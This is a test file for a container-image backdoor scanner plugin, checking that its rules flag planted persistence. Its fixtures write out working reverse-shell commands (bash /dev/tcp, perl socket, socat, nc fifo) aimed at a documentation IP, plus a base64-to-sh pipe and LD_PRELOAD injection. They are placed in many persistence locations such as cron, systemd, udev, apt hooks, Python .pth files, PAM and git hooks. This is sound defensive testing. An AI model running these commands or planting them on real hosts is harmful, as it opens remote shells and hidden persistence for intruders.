import { scanWith } from '@veinmind/plugin-testing'
import { buildImage, layer, remove } from '@veinmind/testing'
import type { FileSpec } from '@veinmind/testing'
import { describe, expect, test } from 'vitest'
import plugin from './index.ts'

type Files = Readonly<Record<string, FileSpec>>

const PASSWD = { 'etc/passwd': 'root:x:0:0::/root:/bin/sh\n' }
const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1\n'

const report = async (files: Files) => scanWith(plugin, buildImage(layer({ ...PASSWD, ...files })), { workers: 0 })
const found = async (files: Files): Promise<string[]> =>
  (await report(files)).findings.map(({ rule, locations }) => `${rule.id} ${locations[0]?.path ?? ''}`).sort()

// Each fault of the original that is known, and what shows that it is not here.

describe('files that are missing hide nothing', () => {
  test('start files of shells: those of profile.d and of homes are read without those of csh', async () => {
    expect(
      await found({ 'etc/profile.d/x.sh': SHELL, 'home/a/.bashrc': SHELL.replace('203.0.113.7', '203.0.113.8') }),
    ).toEqual(['BACK-101 /etc/profile.d/x.sh', 'BACK-101 /home/a/.bashrc'])
  })

  test('tcp wrappers: hosts.allow without hosts.deny, and the other way round', async () => {
    const line = `ALL: ALL: spawn (${SHELL.trim()}) &\n`
    expect(await found({ 'etc/hosts.allow': line })).toEqual(['BACK-050 /etc/hosts.allow', 'BACK-101 /etc/hosts.allow'])
    expect(await found({ 'etc/hosts.deny': line })).toEqual(['BACK-050 /etc/hosts.deny', 'BACK-101 /etc/hosts.deny'])
  })
})

test('a preloaded library is told whatever its path', async () => {
  expect(await found({ 'etc/ld.so.preload': '/lib/libc-helper.so.2\n' })).toEqual(['BACK-001 /etc/ld.so.preload'])
})

test('files and folders: xinetd.d, rc.local and inittab are read as what they are', async () => {
  expect(
    await found({
      'etc/xinetd.d/x': 'service x\n{\n server = /bin/sh\n}\n',
      'etc/xinetd.conf': 'service y\n{\n server = /bin/bash\n}\n',
      'etc/rc.local': SHELL,
      'etc/inittab': `x:2345:respawn:/bin/${SHELL}`,
    }),
  ).toEqual([
    'BACK-051 /etc/xinetd.conf',
    'BACK-051 /etc/xinetd.d/x',
    'BACK-101 /etc/inittab',
    'BACK-101 /etc/rc.local',
  ])
})

test.each(['ko', 'ko.xz', 'ko.zst', 'ko.gz'])(
  'a kernel module is known by its name before .%s, letters as they are',
  async (ending) => {
    expect(await found({ [`lib/modules/6.1/extra/xC.${ending}`]: 'x' })).toEqual([
      `BACK-201 /lib/modules/6.1/extra/xC.${ending}`,
    ])
  },
)

test('names that others have need a second sign; globs are globs', async () => {
  expect(
    await found({
      'lib/modules/6.1/strings.ko': 'x',
      'etc/sshd_config': '',
      'usr/bin/sshd2': 'x',
      'lib/libproc.so.2.0.7': 'x',
    }),
  ).toEqual([])
  expect(await found({ 'tmp/kinsing_1f2e': 'x' })).toEqual(['BACK-200 /tmp/kinsing_1f2e'])
})

test.each([
  'sync && rsync -a /a /b',
  'func () { true; }; func',
  'export LD_LIBRARY_PATH=/opt/lib:$LD_LIBRARY_PATH',
  'curl -fsS https://example.com/health > /dev/null',
  'bash /usr/local/bin/backup && curl -s https://example.com/ok',
  'wget -q -O /var/lib/x/list https://example.com/list',
])('%s in a cron job is no finding', async (command) => {
  expect(await found({ 'etc/cron.d/x': `*/5 * * * * root ${command}\n` })).toEqual([])
})

test.each([
  [
    'CMD-011',
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh")'`,
  ],
  ['CMD-005', 'socat TCP:203.0.113.7:9 EXEC:/bin/sh'],
  ['CMD-001', 'sh -i >& /dev/udp/203.0.113.7/53 0>&1'],
  ['CMD-050', 'echo ZWNobyBoaQo= | base64 -d | sh'],
  ['CMD-004', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 9 > /tmp/f'],
  ['CMD-061', 'LD_PRELOAD=/var/lib/x/a.so /usr/sbin/app'],
])('%s is found in a cron job: %s', async (id, command) => {
  expect(await found({ 'etc/crontab': `17 * * * * root ${command}\n` })).toContain(`BACK-1${id.slice(-2)} /etc/crontab`)
})

test('lines that go on, and names in capitals, are read as the shell does', async () => {
  expect(await found({ 'root/.bashrc': 'bash \\\n -i \\\n >& /dev/tcp/203.0.113.7/9 0>&1' })).toEqual([
    'BACK-101 /root/.bashrc',
  ])
})

const JOB = SHELL.trim()

test.each([
  ['etc/crontab', `* * * * * root ${JOB}`],
  ['etc/cron.d/x', `@reboot root ${JOB}`],
  ['var/spool/cron/crontabs/root', `0-59/5 1,2 * jan-mar MON ${JOB}`],
  ['var/spool/cron/root', `@hourly ${JOB}`],
  ['etc/crontabs/root', `* * * * * ${JOB}`],
  ['etc/anacrontab', `1 5 x ${JOB}`],
  ['var/spool/cron/atjobs/a0001', `#!/bin/sh\ncd /root || {\n exit 1\n}\n${JOB}`],
  ['etc/periodic/15min/x', `#!/bin/sh\n${JOB}`],
  ['usr/lib/systemd/system/x.service', `[Service]\nExecStart=/bin/bash -c '${JOB}'`],
  ['lib/systemd/system/x.service.d/y.conf', `[Service]\nExecStartPre=-/bin/bash -c '${JOB}'`],
  ['root/.config/systemd/user/x.service', `[Service]\nExecStart=/bin/bash -c "${JOB}"`],
  ['etc/systemd/system-generators/x', `#!/bin/sh\n${JOB}`],
  ['etc/rc2.d/S01x', `#!/bin/sh\n${JOB}`],
  ['etc/udev/rules.d/x.rules', `ACTION=="add", RUN+="/bin/bash -c '${JOB}'"`],
  ['etc/update-motd.d/00-x', `#!/bin/sh\n${JOB}`],
  ['etc/apt/apt.conf.d/00x', `APT::Update::Pre-Invoke {"${JOB}";};`],
  ['etc/apt/apt.conf', `DPkg::Post-Invoke { "true"; "${JOB}"; };`],
  ['usr/lib/python3/dist-packages/x.pth', `import os; os.system("${JOB}")`],
  ['usr/lib/python3.11/sitecustomize.py', `import os\nos.system("${JOB}")`],
  ['srv/app/.git/hooks/post-merge', `#!/bin/sh\n${JOB}`],
  ['root/.ssh/rc', JOB],
  ['root/.config/fish/config.fish', JOB],
  ['root/.cshrc', `alias ls '${JOB}'`],
  ['etc/pam.d/sshd', `auth optional pam_exec.so /bin/bash -c "${JOB}"`],
  ['etc/NetworkManager/dispatcher.d/x', JOB],
  ['etc/logrotate.d/x', `/var/log/x {\n postrotate\n ${JOB}\n endscript\n}`],
] as const)('a command in %s is read', async (path, text) => {
  expect((await found({ [path]: `${text}\n` })).map((line) => line.split(' ')[0])).toContain('BACK-101')
})

test('the SSH server is known as a link, as a copy and as a hard link, and one that cannot be followed hides nothing', async () => {
  const sshd = { content: '\u007FELF /etc/ssh/sshd_config', mode: 0o755 }
  expect(
    await found({
      'a/su': { symlink: '/nowhere' },
      'usr/sbin/sshd': sshd,
      'b/su': { symlink: '/usr/sbin/sshd' },
      'c/chsh': { hardLink: 'usr/sbin/sshd' },
      'd/runuser': { ...sshd, content: `${sshd.content} ` },
    }),
  ).toEqual(['BACK-046 /b/su', 'BACK-046 /c/chsh', 'BACK-046 /d/runuser'])
})

test('a fifo, a device and a file of many megabytes are survived, and what was not read is said', async () => {
  const large = `${'# x\n'.repeat(400_000)}\n* * * * * root ${SHELL}`
  const { findings, plugins } = await report({ 'etc/crontab': { fifo: true }, 'etc/cron.d/large': large })
  expect(findings).toEqual([])
  expect(plugins[0]?.coverage.truncated).toBe(1)
})

test('what an upper layer deletes is told with the layer that hides it', async () => {
  const image = buildImage(layer({ ...PASSWD, 'etc/ld.so.preload': '/tmp/.x.so' }), layer(remove('etc/ld.so.preload')))
  expect(await scanWith(plugin, image, { workers: 0 })).toReport({
    rule: 'BACK-001',
    severity: 'critical',
    hiddenBy: 1,
  })
})

test('an event is a backdoor, with the line that shows it', async () => {
  const { findings } = await report({ 'etc/crontab': `# x\n* * * * * root ${SHELL}` })
  expect(findings).toMatchObject([
    {
      type: 'Backdoor',
      class: 'invasion',
      evidence: expect.stringContaining('/dev/tcp/'),
      detail: { place: 'crontab' },
      locations: [{ path: '/etc/crontab', line: 2 }],
    },
  ])
})
